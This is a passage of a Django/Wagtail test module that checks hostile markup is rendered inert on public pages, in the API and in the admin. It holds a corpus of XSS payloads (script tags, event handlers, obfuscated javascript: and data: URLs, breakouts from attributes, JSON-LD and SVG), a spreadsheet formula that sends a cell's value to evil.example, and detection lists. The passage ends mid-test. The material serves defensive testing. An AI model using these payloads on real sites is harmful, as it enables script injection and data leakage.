"""Hostile input: markup that editors, imports and API tokens write stays text.

The issue: rich text and plain fields holding script tags, event handlers,
javascript: addresses and broken HTML are stored safely and rendered inert on
the public pages, in the API and in the admin; oversized uploads and requests
are refused with a clear message.

"Inert" is decided by parsing each response as a browser splits it
(``markup_problems``), not by looking for substrings: no executable <script>
carrying a payload, no on* attribute, no javascript:, vbscript: or data:
address, no frame, <style> or <svg> that came from a payload, JSON-LD that is
still one valid JSON document, and in a rich text fragment balanced tags.

Each ``*Tests`` class is one way in: the page editor, a direct write to the
model (an import or a data migration), an API v3 token, and the plain fields
of the admin's forms. Each looks at every place the field comes out.
"""

import csv
import io
import json
import re
from html.parser import HTMLParser

from django.conf import settings
from django.core.cache import caches
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client, SimpleTestCase, override_settings
from wagtail.documents.models import Document
from wagtail.images.models import Image
from wagtail.images.tests.utils import get_test_image_file
from wagtail.models import APIToken
from wagtail.rich_text import RichText
from wagtail.test.utils.form_data import rich_text

from verkosto_pages.blocks import RICH_TEXT_FEATURES
from verkosto_pages.models import (
    ActivityReportPage,
    ContentPage,
    CoordinationGroupPage,
    ExpertGroupPage,
    Membership,
    Organisation,
    Person,
)

from .utils import StaffTestCase, post_page_edit, seeded

# --- The corpus ---------------------------------------------------------------

# What an attacker, a careless copy-paste from a web page or a broken import
# puts in a field. Each is tried in rich text and in plain text.
PAYLOADS = (
    ("script", "<script>alert(1)</script>"),
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("javascript link", '<a href="javascript:alert(1)">x</a>'),
    ("svg onload", "<svg onload=alert(1)>"),
    ("attribute breakout", '"><script>alert(1)</script>'),
    ("single-quoted breakout", "'><img src=x onerror=alert(1)>"),
    ("script end", "</script><script>alert(1)</script>"),
    ("unclosed tags", "<b><i>text"),
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("style", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("data link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>'),
    ("data image", '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">'),
    ("entity colon", '<a href="javascript&colon;alert(1)">c</a>'),
    ("numeric entities", '<a href="&#106;avascript:alert(1)">n</a>'),
    ("mixed case", '<a href="JaVaScRiPt:alert(1)">m</a>'),
    ("whitespace in scheme", '<a href=" java\tscript:alert(1)">w</a>'),
    ("newline in scheme", '<a href="java\nscript:alert(1)">w</a>'),
    ("vbscript", '<a href="vbscript:msgbox(1)">v</a>'),
    (
        "target and rel",
        '<a href="https://example.com/" target="_top" rel="opener" onclick="alert(1)" style="position:fixed">t</a>',
    ),
    ("comment", "<!-- <script>alert(1)</script> -->"),
    ("abrupt comment", "<!--><script>alert(1)</script>-->"),
    ("json-ld breakout", '</script><script>alert(1)</script><script type="application/ld+json">{'),
    ("svg text breakout", "</tspan></text></svg><script>alert(1)</script><svg><text><tspan>"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("form", '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">b</button></form>'),
    ("object", '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base", '<base href="javascript:alert(1)//">'),
    ("template literal", "${alert(1)}{{7*7}}"),
)

# Payloads that open a <script> and never close it.
UNCLOSED_SCRIPT = {"json-ld breakout"}

# Visible words put in front of each payload: finding them proves the field was shown.
MARKER = "Vihamielinen"

# The payloads most likely to escape an attribute, a <script> or an SVG text,
# first: a short plain field gets as many of them as fit.
BREAKOUTS = (
    '"><script>alert(1)</script>',
    "</tspan></text></svg><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
)


def plain_value(max_length=10_000, label=""):
    """MARKER and as many payloads as fit in ``max_length`` characters."""
    value = f"{MARKER}{label}"
    for payload in BREAKOUTS + tuple(p for _name, p in PAYLOADS if p not in BREAKOUTS):
        if len(value) + 1 + len(payload) <= max_length:
            value += " " + payload
    return value


def rich_value(payload, label=""):
    """Stored rich text around ``payload``: text before and after it, so a payload
    that swallows the rest of the field shows up as a missing word."""
    return f"<p>{MARKER}{label} alku</p><p>{payload}</p><p>loppu</p>"


ALL_PAYLOADS_RICH = "".join(f"<p>{MARKER} {i}</p><p>{payload}</p>" for i, (_n, payload) in enumerate(PAYLOADS))

# --- The checks ---------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
# Elements no payload may bring into a page: they load or run another document.
FRAME_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}
# Nor, in a rich text fragment, these.
FRAGMENT_FORBIDDEN = FRAME_ELEMENTS | {"script", "style", "svg", "math", "form", "button", "input", "meta", "link"}
# Nor attributes that restyle the page over its own content or open a window
# that can navigate this one (target without rel=noopener).
FRAGMENT_FORBIDDEN_ATTRIBUTES = {"style", "target", "rel", "srcset", "formaction", "xmlns", "is"}
VOID_ELEMENTS = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
EXECUTABLE_SCRIPT_TYPES = {"", "text/javascript", "application/javascript", "module", "text/ecmascript"}
CODE = re.compile(r"alert\(|msgbox\(")


class Markup(HTMLParser):
    """Elements, attributes, script bodies and comments of a document, split as a browser splits them."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, {attribute: value}, [(attribute, value), …] as written)
        self.scripts = []  # ({attribute: value}, body)
        self.comments = []
        self.text = []
        self.open = []  # start tags not yet closed, for fragments
        self.unbalanced = []
        self._script = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append((tag, attributes, attrs))
        if tag == "script":
            self._script = (attributes, [])
        if tag not in VOID_ELEMENTS:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append((tag, attributes, attrs))

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            self.scripts.append((self._script[0], "".join(self._script[1])))
            self._script = None
        if self.open and self.open[-1] == tag:
            self.open.pop()
        elif tag not in VOID_ELEMENTS:
            self.unbalanced.append(f"</{tag}>")

    def handle_data(self, data):
        if self._script is not None:
            self._script[1].append(data)
        else:
            self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)

    def unknown_decl(self, data):
        self.comments.append(data)

    @property
    def visible_text(self):
        return " ".join(" ".join(self.text).split())


def dangerous_url(value):
    # Browsers ignore control characters and whitespace inside a scheme.
    squeezed = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
    return squeezed.startswith(DANGEROUS_SCHEMES)


def refresh_target(content):
    """The address of ``<meta http-equiv="refresh" content="0; url=…">``."""
    return re.split(r"url\s*=", content, flags=re.I)[-1].strip("'\"")


def markup_problems(html, *, admin=False, fragment=False):
    """What in ``html`` could run a payload; an empty list when it is inert.

    ``admin``: the admin is allowed its own frames (the preview) and data:
    images; ``fragment``: a piece of rich text, which must also be balanced
    and free of elements rich text never has.
    """
    doc = Markup(html)
    problems = []
    for tag, attributes, raw in doc.elements:
        names = [name for name, _value in raw]
        for name, value in attributes.items():
            if fragment and name in FRAGMENT_FORBIDDEN_ATTRIBUTES:
                problems.append(f"<{tag} {name}={value!r}> in rich text")
            if name.startswith("on"):
                problems.append(f"<{tag} {name}={value!r}>")
            elif name == "srcdoc":
                problems.append(f"<{tag} srcdoc>")
            elif name in URL_ATTRIBUTES and dangerous_url(value):
                if admin and value.startswith("data:image/") and "script" not in value.lower():
                    continue
                problems.append(f"<{tag} {name}={value!r}>")
            elif name == "content" and "http-equiv" in attributes and dangerous_url(refresh_target(value)):
                problems.append(f"<meta content={value!r}>")
        # Wagtail's own inline ORDER inputs repeat their value; nothing of ours may.
        if len(names) != len(set(names)) and not admin:
            problems.append(f"<{tag}> with a repeated attribute: {names}")
        if tag in FRAME_ELEMENTS and not (admin and tag == "iframe"):
            problems.append(f"<{tag}>")
        if fragment and tag in FRAGMENT_FORBIDDEN:
            problems.append(f"<{tag}> in rich text")
        if not admin and tag == "style":
            problems.append("<style>")
    for attributes, body in doc.scripts:
        kind = attributes.get("type", "").strip().lower()
        if kind in EXECUTABLE_SCRIPT_TYPES:
            if CODE.search(body):
                problems.append(f"<script>{body[:80]}</script>")
            source = attributes.get("src", "")
            if source and not (source.startswith("/") and not source.startswith("//")):
                problems.append(f"<script src={source!r}>")
        elif kind == "application/ld+json":
            try:
                json.loads(body)
            except ValueError:
                problems.append(f"JSON-LD that is not JSON: {body[:80]!r}")
    problems += [f"<!--{comment[:80]}-->" for comment in doc.comments if CODE.search(comment)]
    if doc._script is not None:
        problems.append("a <script> that never ends")
    if fragment and (doc.open or doc.unbalanced):
        problems.append(f"unbalanced tags: open {doc.open}, stray {doc.unbalanced}")
    return problems


RICH_TEXT_API_FIELDS = ("purpose", "summary")


def rich_text_strings(data):
    """The rich text fragments of an API answer (a page, or a listing of pages).

    Every other string is plain text, which the API gives as typed: a consumer
    escapes it for its own medium.
    """
    for page in data.get("items", [data]):
        for name in RICH_TEXT_API_FIELDS:
            if page.get(name):
                yield page[name]
        for block in page.get("body") or []:
            if block["type"] == "paragraph":
                yield block["value"]


class CheckerTests(SimpleTestCase):
    """The check finds what it is for, so a pass below means something."""

    def test_it_finds_each_way_of_running_script(self):
        for html in (
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg><g onload=alert(1)></g></svg>",
            '<a href=" jav&#x09;ascript:alert(1)">x</a>',
            '<a href="javascript&colon;alert(1)">x</a>',
            '<a href="DATA:text/html,x">x</a>',
            '<iframe src="https://evil.example/"></iframe>',
            '<iframe srcdoc="x"></iframe>',
            '<meta http-equiv="refresh" content="0; URL=javascript:alert(1)">',
            '<script type="application/ld+json">{"a": "</script><script>alert(1)</script>',
            "<!--><script>alert(1)</script>-->",
            '<p title="x" title="y">',
        ):
            with self.subTest(html):
                self.assertNotEqual(markup_problems(html), [], html)

    def test_it_finds_what_rich_text_never_has(self):
        for html in ("<b><i>text", "<p>a</b>", "<style>p{}</style>", '<a href="/" target="_blank">x</a>', '<p style="position:fixed">'):
            with self.subTest(html):
                self.assertNotEqual(markup_problems(html, fragment=True), [], html)

    def test_it_passes_escaped_text_and_ordinary_markup(self):
        html = (
            '<title>&lt;script&gt;alert(1)&lt;/script&gt;</title><p title="&quot;&gt;&lt;svg onload=alert(1)&gt;">'
            '&lt;img src=x onerror=alert(1)&gt;</p><a href="https://example.com/javascript:alert(1)">x</a>'
            '<a href="mailto:&quot;&lt;script&gt;&quot;@example.com">m</a><a href="tel:javascript:alert(1)">t</a>'
            '<script type="application/ld+json">{"name": "\\u003c/script\\u003e"}</script><br>'
        )
        self.assertEqual(markup_problems(html), [])
        self.assertEqual(markup_problems("<p>a <b>b</b><br><i>c</i></p><ul><li>x</li></ul>", fragment=True), [])


class HostileInputTestCase(StaffTestCase):
    def setUp(self):
        super().setUp()
        self.anonymous = Client()

    def assertInert(self, html, where, **kwargs):
        problems = markup_problems(html, **kwargs)
        self.assertEqual(problems, [], f"{where}: {problems}")

    def assertShows(self, html, words, where):
        self.assertIn(words, Markup(html).visible_text, f"{where} does not show {words!r}")

    def public_html(self, url):
        """A page as the public sees it, checked for inertness."""
        response = self.anonymous.get(url)
        self.assertEqual(response.status_code, 200, url)
        html = response.content.decode()
        self.assertInert(html, url)
        return html

    def admin_html(self, url):
        response = self.client.get(url)
        self.assertEqual(response.status_code, 200, url)
        html = response.content.decode()
        self.assertInert(html, url, admin=True)
        return html

    def api_json(self, url, **headers):
        """An API answer: JSON by its content type, its rich text inert fragments."""
        response = self.anonymous.get(url, **headers)
        self.assertEqual(response.status_code, 200, f"{url}: {response.content[:300]!r}")
        self.assertIn(response["Content-Type"].split(";")[0], ("application/json",), url)
        self.assertEqual(response.get("X-Content-Type-Options"), "nosniff", url)
        data = response.json()
        for fragment in rich_text_strings(data):
            self.assertInert(fragment, f"{url} rich text {fragment[:60]!r}", fragment=True)
        return data

    def api_outputs(self, page, field, listing=True):
        """``field`` of ``page`` from API v2 and v3, detail and (unless told) listing."""
        label = page.specific_class._meta.label
        values = [
            self.api_json(f"/api/v2/pages/{page.pk}/")[field],
            self.api_json(f"/api/v3/pages/{page.pk}/")[field],
        ]
        if listing:
            items = self.api_json(f"/api/v2/pages/?type={label}&fields={field}&limit=20")["items"]
            values += [item[field] for item in items if item["id"] == page.pk]
            self.assertEqual(len(values), 3, f"{page} missing from the v2 listing")
        return values

    def search_html(self, words=MARKER):
        return self.public_html(f"/haku/?q={words}")

    def publish(self, page, **fields):
        """Write ``fields`` straight to the page and publish, as an import would."""
        page = page.specific_class.objects.get(pk=page.pk)
        for name, value in fields.items():
            setattr(page, name, value)
        page.save_revision().publish()
        return page


# --- Entry point: straight to the model -------------------------------------


class DirectWriteTests(HostileInputTestCase):
    """Values that reach the database without a form: an import, a data
    migration, a script in the shell. Wagtail's ``expand_db_html`` does not clean
    rich text, so whatever is stored must still come out inert everywhere."""

    def check_rich_text(self, page, field, value, where_shown, swallows_the_rest=False, listing=False):
        """Publish ``value`` in ``field``, then read the page and the API.

        The text after the payload must still be there, unless the payload opens
        a <script> it never closes: a browser would not show what follows either.
        """
        self.publish(page, **{field: value})
        html = self.public_html(where_shown)
        self.assertShows(html, f"{MARKER}", where_shown)
        if not swallows_the_rest:
            self.assertShows(html, "loppu", where_shown)
        for api_value in self.api_outputs(page, field, listing):
            text = json.dumps(api_value, ensure_ascii=False)
            self.assertIn(MARKER, text)
            if not swallows_the_rest:
                self.assertIn("loppu", text)

    def test_expert_group_purpose(self):
        group = seeded("page:expert-group-digi")
        for name, payload in PAYLOADS:
            with self.subTest(name):
                self.check_rich_text(group, "purpose", rich_value(payload), group.url, name in UNCLOSED_SCRIPT, listing=True)
                # The result's snippet is the purpose: the group has no description.
                self.assertShows(self.search_html(), f"{MARKER} alku", "/haku/")

    def test_planning_document_summary(self):
        report = seeded("page:activity-report")
        for name, payload in PAYLOADS:
            with self.subTest(name):
                self.check_rich_text(report, "summary", rich_value(payload), report.url, name in UNCLOSED_SCRIPT)
        self.public_html("/")  # the report is linked from the menu

    def test_body_paragraph(self):
        statement = seeded("page:accessibility-statement")
        for name, payload in PAYLOADS:
            with self.subTest(name):
                body = [("heading", f"{MARKER} {payload}"), ("paragraph", RichText(rich_value(payload)))]
                self.check_rich_text(statement, "body", body, statement.url, name in UNCLOSED_SCRIPT)

    def test_a_save_an_update_and_a_revision_store_it_clean(self):
        group = seeded("page:expert-group-digi")
        ExpertGroupPage.objects.filter(pk=group.pk).update(purpose=ALL_PAYLOADS_RICH)
        self.assertInert(ExpertGroupPage.objects.get(pk=group.pk).purpose, "after update()", fragment=True)
        self.publish(group, purpose=ALL_PAYLOADS_RICH)
        self.assertInert(ExpertGroupPage.objects.get(pk=group.pk).purpose, "after save()", fragment=True)
        revision = ExpertGroupPage.objects.get(pk=group.pk).latest_revision
        self.assertInert(revision.content["purpose"], "in the revision", fragment=True)
        self.assertIn(f"{MARKER} {len(PAYLOADS) - 1}", revision.content["purpose"])

    def test_raw_sql_is_still_shown_clean(self):
        # Nothing on the way in sees an SQL import: the way out must clean it.
        group = seeded("page:expert-group-digi")
        with connection.cursor() as cursor:
            cursor.execute(
                f"UPDATE {ExpertGroupPage._meta.db_table} SET purpose = %s WHERE page_ptr_id = %s",
                [ALL_PAYLOADS_RICH, group.pk],
            )
        self.assertEqual(ExpertGroupPage.objects.get(pk=group.pk).purpose, ALL_PAYLOADS_RICH)
        html = self.public_html(group.url)
        self.assertShows(html, f"{MARKER} {len(PAYLOADS) - 1}", group.url)
        for value in self.api_outputs(group, "purpose"):
            self.assertIn(f"{MARKER} {len(PAYLOADS) - 1}", value)

    def test_every_payload_in_plain_fields_of_a_body(self):
        """Names in the org chart's SVG, the JSON-LD, the meta tags and the member
        list, each payload in turn, written as an import would."""
        body = seeded("page:coordination-group")
        verso = seeded("org:verso")
        membership = body.memberships.get(organisation=verso)
        for index, (name, payload) in enumerate(PAYLOADS):
            with self.subTest(name):
                text = f"{MARKER} {index} {payload}"
                Organisation.objects.filter(pk=verso.pk).update(name=text, short_name=payload[:50], website=f"https://example.com/{payload}")
                Membership.objects.filter(pk=membership.pk).update(note=f"{text} jäsen")
                CoordinationGroupPage.objects.filter(pk=body.pk).update(
                    title=text, seo_title=text, search_description=text, intro=text, org_chart_updated_by=payload[:100]
                )
                for cache in ("default", "pages"):
                    caches[cache].clear()
                html = self.public_html(body.url)
                self.assertShows(html, f"{MARKER} {index}", body.url)
                charts = [attrs for tag, attrs, _raw in Markup(html).elements if tag == "svg"]
                self.assertEqual(len(charts), 2, "the wide and the narrow org chart")
                self.public_html(body.get_parent().url)
                data = self.api_json(f"/api/v2/pages/{body.pk}/")
                self.assertEqual(data["title"], text)
                self.assertIn(text, [m["organisation"]["name"] for m in data["members"] if m["organisation"]])
                self.api_json(f"/api/v3/pages/{body.pk}/")

    def test_stored_payloads_in_the_admin(self):
        """The editor, the history and the comparison of revisions show stored markup as text."""
        group = seeded("page:expert-group-digi")
        first = group.latest_revision
        self.publish(group, purpose=ALL_PAYLOADS_RICH)
        self.admin_html(f"/admin/pages/{group.pk}/edit/")
        self.admin_html(f"/admin/pages/{group.pk}/history/")
        self.admin_html(f"/admin/pages/{group.pk}/revisions/compare/{first.pk}...latest/")
        self.admin_html(f"/admin/pages/{group.pk}/revisions/{first.pk}/view/")
        self.admin_html(f"/admin/pages/{group.get_parent().pk}/")

    def test_wagtail_links_still_work(self):
        """Cleaning keeps what the editor stores: links to pages and documents, and text markup."""
        group = seeded("page:expert-group-digi")
        target = seeded("page:safety-network")
        document = Document.objects.create(title="Raportti", file=SimpleUploadedFile("raportti.pdf", b"%PDF-1.4"))
        value = (
            f'<p>{MARKER} <a linktype="page" id="{target.pk}">verkosto</a>, '
            f'<a linktype="document" id="{document.pk}">raportti</a> ja '
            '<a href="https://example.com/polku?a=1&amp;b=2">ulkoinen</a> '
            '<a href="mailto:info@example.com">posti</a> <b>lihava</b> <i>kursiivi</i></p>'
            "<h2>Otsikko</h2><h3>Väliotsikko</h3><ul><li>yksi</li></ul><ol><li>kaksi</li></ol>"
        )
        self.publish(group, purpose=value)
        html = self.public_html(group.url)
        self.assertIn(f'<a href="{target.url}">verkosto</a>', html)
        self.assertIn(f'<a href="{document.url}">raportti</a>', html)
        self.assertIn('<a href="https://example.com/polku?a=1&amp;b=2">ulkoinen</a>', html)
        self.assertIn('<a href="mailto:info@example.com">posti</a>', html)
        for tag in ("<b>lihava</b>", "<i>kursiivi</i>", "<h2>Otsikko</h2>", "<h3>Väliotsikko</h3>", "<ul><li>yksi</li></ul>"):
            self.assertIn(tag, html)
        for api_value in self.api_outputs(group, "purpose"):
            self.assertIn(f'href="http://127.0.0.1:8000{target.url}"', api_value)
            self.assertIn(f'href="http://127.0.0.1:8000{document.url}"', api_value)
            self.assertIn("<b>lihava</b>", api_value)

    def test_stored_image_embeds_are_dropped(self):
        """Rich text here has no images: an embed stored by an import, with a format
        Wagtail does not know (which failed the page with a 500), is removed, not shown."""
        group = seeded("page:expert-group-digi")
        image = Image.objects.create(title="Kuva", file=get_test_image_file())
        value = (
            f"<p>{MARKER}</p>"
            f'<embed embedtype="image" id="{image.pk}" format="no-such-format" alt="Tuntematon muoto"/>'
            f'<embed embedtype="image" id="{image.pk}" format="fullwidth" alt="Kuvan kuvaus"/>'
            '<embed embedtype="media" url="https://example.com/video"/>'
        )
        self.publish(group, purpose=value)
        self.assertNotIn("<embed", ExpertGroupPage.objects.get(pk=group.pk).purpose)
        # And on the way out, for what reached the table past the model.
        with connection.cursor() as cursor:
            cursor.execute(
                f"UPDATE {ExpertGroupPage._meta.db_table} SET purpose = %s WHERE page_ptr_id = %s",
                [value, group.pk],
            )
        html = self.public_html(group.url)
        self.assertIn(MARKER, html)
        self.assertNotIn("Kuvan kuvaus", html)
        self.assertNotIn("Tuntematon muoto", html)
        for api_value in self.api_outputs(group, "purpose"):
            self.assertIn(MARKER, api_value)
            self.assertNotIn("<img", api_value)
            self.assertNotIn("<embed", api_value)


# --- Entry point: the page editor ---------------------------------------------

DANGEROUS_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
)


def hostile_contentstate():
    """What a hand-made POST can send as the editor's value, bypassing its JavaScript:
    payloads as text, links to dangerous addresses, a page link whose id is markup,
    entity types and styles the editor does not have."""
    blocks, entities = [], {}

    def block(text, kind="unstyled", entity=None, styles=()):
        ranges = [{"offset": 0, "length": len(text), "key": entity}] if entity is not None else []
        blocks.append(
            {
                "key": f"k{len(blocks):04d}",
                "type": kind,
                "depth": 0,
                "text": text,
                "inlineStyleRanges": [{"offset": 0, "length": len(text), "style": s} for s in styles],
                "entityRanges": ranges,
                "data": {},
            }
        )

    def entity(kind, data):
        key = len(entities)
        entities[str(key)] = {"type": kind, "mutability": "MUTABLE", "data": data}
        return key

    for index, (_name, payload) in enumerate(PAYLOADS):
        block(f"{MARKER} {index} {payload}", styles=("BOLD",))
    for url in DANGEROUS_URLS:
        block(f"{MARKER} linkki", entity=entity("LINK", {"url": url, "onclick": "alert(1)"}))
    block(f"{MARKER} sivu", entity=entity("LINK", {"id": '1" onclick="alert(1)', "url": "/"}))
    block(f"{MARKER} tiedosto", entity=entity("DOCUMENT", {"id": '1" onmouseover="alert(1)'}))
    block(" ", kind="atomic", entity=entity("IMAGE", {"id": 1, "format": '" onerror="alert(1)', "alt": '"><script>alert(1)</script>'}))
    block(" ", kind="atomic", entity=entity("EMBED", {"url": "javascript:alert(1)", "embedType": "video"}))
    block(f"{MARKER} otsikko <script>alert(1)</script>", kind="header-two", styles=("ONMOUSEOVER", "ITALIC"))
    block(f"{MARKER} outo", kind="script")
    block(f"{MARKER} loppu", kind="unordered-list-item")
    return json.dumps({"blocks": blocks, "entityMap": entities})


class EditorRichTextTests(HostileInputTestCase):
    """Rich text saved through the page editor: its converter turns the posted
    contentstate into Wagtail's database format, and only that is stored."""

    def assertStoredClean(self, value, where):
        self.assertInert(value, f"stored {where}", fragment=True)
        self.assertNotIn("alert(1)</script>", value)

    def test_hostile_contentstate_in_purpose(self):
        group = seeded("page:expert-group-digi")
        response = post_page_edit(self.client, group, {"purpose": hostile_contentstate()})
        self.assertEqual(response.status_code, 302, response.content.decode()[-2000:])
        stored = ExpertGroupPage.objects.get(pk=group.pk).purpose
        self.assertStoredClean(stored, "purpose")
        self.assertIn(f"{MARKER} loppu", stored)
        html = self.public_html(group.url)
        self.assertShows(html, f"{MARKER} loppu", group.url)
        for value in self.api_outputs(group, "purpose"):
            self.assertIn(f"{MARKER} loppu", value)
        self.search_html()
        self.admin_html(f"/admin/pages/{group.pk}/edit/")

    def test_hostile_contentstate_in_a_body_paragraph(self):
        statement = seeded("page:accessibility-statement")
        index = next(i for i, child in enumerate(statement.body) if child.block_type == "paragraph")
        response = post_page_edit(self.client, statement, {f"body-{index}-value": hostile_contentstate()})
        self.assertEqual(response.status_code, 302, response.content.decode()[-2000:])
        stored = ContentPage.objects.get(pk=statement.pk).body[index].value.source
        self.assertStoredClean(stored, "body paragraph")
        html = self.public_html(statement.url)
        self.assertShows(html, f"{MARKER} loppu", statement.url)
        self.api_outputs(statement, "body")
        self.admin_html(f"/admin/pages/{statement.pk}/edit/")

    def test_pasted_html_in_summary(self):
        """HTML as pasted into the editor, converted as the editor converts it."""
        report = seeded("page:activity-report")
        pasted = []
        for _name, payload in PAYLOADS:
            try:
                rich_text(rich_value(payload), features=RICH_TEXT_FEATURES)
            except AssertionError:
                continue  # the converter refuses markup it cannot pair up: it never reaches a POST
            pasted.append(payload)
        self.assertGreater(len(pasted), len(PAYLOADS) // 2)
        value = "".join(rich_value(payload, f" {i}") for i, payload in enumerate(pasted))
        response = post_page_edit(self.client, report, {"summary": rich_text(value, features=RICH_TEXT_FEATURES)})
        self.assertEqual(response.status_code, 302, response.content.decode()[-2000:])
        stored = ActivityReportPage.objects.get(pk=report.pk).summary
        self.assertStoredClean(stored, "summary")
        html = self.public_html(report.url)
        self.assertShows(html, f"{MARKER} {len(pasted) - 1} alku", report.url)
        self.api_outputs(report, "summary")


# --- Entry point: an API v3 token ---------------------------------------------


class TokenWriteTests(HostileInputTestCase):
    """API v3 writes with a bearer token go through the page editor's form."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.token = APIToken.create_token(user=cls.user, name="vihamielinen")[1]

    def patch(self, page, data):
        return self.client.generic(
            "PATCH",
            f"/api/v3/pages/{page.pk}/",
            json.dumps({"meta": {"action": "publish"}, **data}),
            content_type="application/json",
            HTTP_AUTHORIZATION=f"Bearer {self.token}",
        )

    def test_plain_fields_of_an_expert_group(self):
        group = seeded("page:expert-group-digi")
        response = self.patch(
            group,
            {
                "title": plain_value(255),
                "seo_title": plain_value(255, " seo"),
                "search_description": plain_value(label=" kuvaus"),
                "convener_note": plain_value(255, " note"),
            },
        )
        self.assertEqual(response.status_code, 200, response.content[:500])
        self.assertEqual(ExpertGroupPage.objects.get(pk=group.pk).convener_note, plain_value(255, " note"))
        group.refresh_from_db()
        html = self.public_html(group.url)
        self.assertShows(html, f"{MARKER} note", group.url)
        self.assertIn(f'content="{MARKER} kuvaus', html)
        self.public_html(group.get_parent().url)
        self.search_html()
        data = self.api_json(f"/api/v3/pages/{group.pk}/")
        self.assertEqual(data["title"], plain_value(255))

    def test_rich_text_the_api_may_not_write(self):
        group = seeded("page:expert-group-digi")
        before = ExpertGroupPage.objects.get(pk=group.pk).purpose
        response = self.patch(group, {"purpose": ALL_PAYLOADS_RICH})
        self.assertIn(response.status_code, (200, 422), response.content[:500])
        stored = ExpertGroupPage.objects.get(pk=group.pk).get_latest_revision_as_object().purpose
        self.assertEqual(stored, before)

    def test_text_fields(self):
        promise = seeded("page:service-promise-1")
        response = self.patch(promise, {"statement": plain_value(label=" lupaus")})
        self.assertEqual(response.status_code, 200, response.content[:500])
        html = self.public_html(promise.url)
        self.assertShows(html, f"{MARKER} lupaus", promise.url)
        self.public_html(promise.get_parent().url)
        group = seeded("page:coordination-group")
        response = self.patch(group, {"intro": plain_value(label=" johdanto")})
        self.assertEqual(response.status_code, 200, response.content[:500])
        html = self.public_html(group.url)
        self.assertShows(html, f"{MARKER} johdanto", group.url)
        self.public_html(group.get_parent().url)  # the card with its intro
        self.public_html("/")
        self.search_html(f"{MARKER}")


# --- Entry point: plain fields through the admin's forms ----------------------

# A spreadsheet opens a cell that starts with one of these as a formula.
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Avaa")'
EMAIL = '"<script>alert(1)</script>"@example.com'  # a valid address, quoted local part
WEBSITE = 'https://example.com/"><script>alert(1)</script>'  # valid too: a URL path may hold these


def directory_post(client, url, data):
    response = client.post(url, data)
    assert response.status_code == 302, (url, response.content.decode()[-3000:])


class AdminFormPlainFieldTests(HostileInputTestCase):
    """Every plain field staff type in, with payloads, saved through the admin's own
    forms once; each test reads one group of the places the values come out."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        client = Client()
        client.force_login(cls.user)
        cls.verso = seeded("org:verso")
        cls.person = seeded("person:susanna-leimio")
        cls.theme = seeded("theme:violence-prevention")
        directory_post(
            client,
            f"/admin/verkosto_pages/organisation/edit/{cls.verso.pk}/",
            {
                "name": plain_value(255, " org"),
                "short_name": plain_value(50),
                "kind": cls.verso.kind,
                "municipality": plain_value(100),
                "website": WEBSITE,
            },
        )
        directory_post(
            client,
            f"/admin/verkosto_pages/person/edit/{cls.person.pk}/",
            {
                "name": plain_value(255, " henkilö"),
                "title": plain_value(255, " titteli"),
                "organisation": str(cls.verso.pk),
                "email": EMAIL,
                "phone": plain_value(50),
                "show_contact_details": "on",
            },
        )
        directory_post(
            client,
            f"/admin/verkosto_pages/theme/edit/{cls.theme.pk}/",
            {
                "name": plain_value(255, " teema"),
                "slug": cls.theme.slug,
                "description": plain_value(label=" teemakuvaus"),
                "sort_order": str(cls.theme.sort_order),
            },
        )
        cls.image = Image.objects.create(title=plain_value(255, " kuva"), file=get_test_image_file())

        cls.body = seeded("page:coordination-group")
        cls.first_revision = cls.body.latest_revision
        body_changes = {
            "show_in_menus": "on",  # edit_form_data posts a ticked box without a value as unticked
            "title": plain_value(255, " toimielin"),
            "seo_title": plain_value(255, " seo"),
            "search_description": plain_value(label=" kuvaus"),
            "intro": plain_value(label=" johdanto"),
            "org_chart_image": str(cls.image.pk),
            "org_chart_caption": plain_value(255, " kuvateksti"),
            "org_chart_updated_by": plain_value(100),
            "memberships-0-note": f"{FORMULA} {plain_value(200, ' jäsen')}"[:255],
            "coordinators-1-role": plain_value(255, " tehtävä"),
            "responsibilities-0-value": plain_value(255, " vastuu"),
        }
        cls.assert_saved(post_page_edit(client, cls.body, body_changes))

        cls.promise = seeded("page:service-promise-1")
        promise_changes = {
            "statement": plain_value(label=" lupaus"),
            "goals-count": "1",
            "goals-0-type": "goal",
            "goals-0-deleted": "",
            "goals-0-order": "0",
            "goals-0-id": "",
